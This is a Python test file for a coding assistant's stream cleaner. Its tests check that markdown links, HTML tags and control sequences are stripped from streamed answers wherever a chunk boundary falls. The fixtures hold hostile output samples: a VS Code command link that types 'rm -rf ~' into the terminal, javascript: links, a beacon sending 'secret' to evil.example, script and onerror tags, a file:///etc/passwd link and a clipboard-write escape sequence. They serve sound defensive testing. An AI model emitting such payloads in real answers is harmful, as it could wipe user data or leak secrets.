"""Streamed explanation chunks are cleaned as the final answer is, wherever the stream splits
a link, a tag or a fence."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from dexter_ls.prompting.clean.output import clean_output
from dexter_ls.prompting.clean.stream import StreamCleaner

HOSTILE = (
    "Sure! Here is the fix.\n"
    "The variable is unset. [Click to fix](command:workbench.action.terminal.sendSequence"
    "?%7B%22text%22%3A%22rm%20-rf%20~%22%7D) or [run](javascript:alert(1)).\n"
    "See [the docs](https://docs.python.org/3/) and [this](vscode://x/y), "
    "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> "
    "<script>fetch('https://evil')</script> [data](data:text/html,<b>x</b>) "
    "[f](file:///etc/passwd) <command:foo>\n\n"
    "```python\nx = '<script>'  # code stays code\n```\n\n"
    "[ref link][r]\n\n[r]: command:evil\n"
)
DANGER = re.compile(
    r"\]\(\s*<?\s*(?:command|javascript|data|file|vscode):|<(?:script|img|iframe)\b"
    r"|<command:|^\[r\]: command", re.IGNORECASE | re.MULTILINE)


def _stream(text: str, cuts: list[int]) -> str:
    cleaner = StreamCleaner()
    out, last = [], 0
    for cut in sorted(set(cuts)):
        out.append(cleaner.feed(text[last:cut]))
        last = cut
    out.append(cleaner.feed(text[last:]))
    out.append(cleaner.finish())
    return "".join(out)


def _danger_outside_code(text: str) -> list[str]:
    prose = re.sub(r"```.*?```", "", text, flags=re.DOTALL)
    return DANGER.findall(prose)


def test_whole_hostile_answer_streamed_in_one_piece_is_clean() -> None:
    streamed = _stream(HOSTILE, [])
    assert not _danger_outside_code(streamed), streamed
    assert "https://docs.python.org/3/" in streamed  # http(s) links stay
    assert "x = '<script>'" in streamed  # code is shown as code


def test_every_single_cut_of_the_hostile_answer_is_clean() -> None:
    for cut in range(len(HOSTILE) + 1):
        streamed = _stream(HOSTILE, [cut])
        assert not _danger_outside_code(streamed), (cut, streamed)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.integers(min_value=0, max_value=len(HOSTILE)), max_size=30))
def test_any_split_into_chunks_is_clean(cuts: list[int]) -> None:
    assert not _danger_outside_code(_stream(HOSTILE, cuts))


def test_character_by_character_link_is_removed() -> None:
    text = "Try [this fix](command:evil.run) now.\n"
    streamed = _stream(text, list(range(len(text))))
    assert "command:" not in streamed
    assert "this fix" in streamed


def test_plain_lines_stream_before_the_paragraph_ends() -> None:
    cleaner = StreamCleaner()
    assert cleaner.feed("The name is not defined") == "The name is not"  # whole words go
    assert cleaner.feed(" here.\nDefine it first") == " defined here."
    assert cleaner.feed(" [x](") == ""  # markup: held to the end of the paragraph
    assert cleaner.feed("command:y) ok.\n\nNext") == "\nDefine it first x ok."
    assert cleaner.finish() == "\n\nNext"


def test_plain_markdown_streams_as_it_would_clean_whole() -> None:
    text = ("The call fails because `x` is None.\n\n- check the value\n- guard it\n\n"
            "```python\nif x is None:\n    return\n```\n\nThat fixes it.\n")
    for size in (1, 3, 7, 50):
        streamed = _stream(text, list(range(0, len(text), size)))
        assert streamed.strip() == clean_output(text).strip()


def test_an_endless_paragraph_is_released_in_bounded_pieces() -> None:
    cleaner = StreamCleaner(hold=1000)
    released = [cleaner.feed("[a](command:x) word " * 20) for _ in range(20)]
    assert any(released)  # released before the end
    assert all("command:" not in r for r in released)


def test_control_sequences_do_not_stream() -> None:
    streamed = _stream("Fixed.\x1b]52;c;cm0gLXJmIH4=\x07 \x1b[2J\u202eevil\n\n", [3, 9])
    assert "\x1b" not in streamed and "\u202e" not in streamed


def test_the_first_words_show_before_the_line_ends() -> None:
    cleaner = StreamCleaner()
    assert cleaner.feed("The ") == "The"
    assert cleaner.feed("name ") == " name"
    assert cleaner.feed("is ") == " is"
    assert cleaner.feed("undefined.") == ""  # a word may go on
    assert cleaner.finish() == " undefined."
    held = StreamCleaner()
    assert held.feed("Use `x` or ") == ""  # markup: the line waits
    assert held.feed("~~~ ") == ""
    fence = StreamCleaner()
    assert fence.feed("~~~ python ") == ""  # may open a fence


def test_words_streamed_one_by_one_join_as_the_whole_answer_reads() -> None:
    text = ("The variable total is used before it is assigned.\nAssign it first.\n\n"
            "Then call the function again with the right arguments.\n")
    words = [i + 1 for i, ch in enumerate(text) if ch == " "]
    assert _stream(text, words).strip() == clean_output(text).strip()


_PIECES = st.sampled_from([
    *"ab c\n\t `*_[]()<>!#-|~&\\:/.", "\u2028", "\x85", "\xa0", "\x0b", "http://x.y", "```",
    "<script>", "  ", "\r\n", "Sure! "])


@settings(max_examples=3000, deadline=None)
@given(st.lists(_PIECES, max_size=30).map("".join))
def test_trailing_blanks_never_change_the_cleaned_text(text: str) -> None:
    """The stream cleaner cleans each block without its trailing blanks (one pass instead of
    two): that may only be done because the result is the same."""
    assert clean_output(text.rstrip(" \t\r\n")) == clean_output(text)
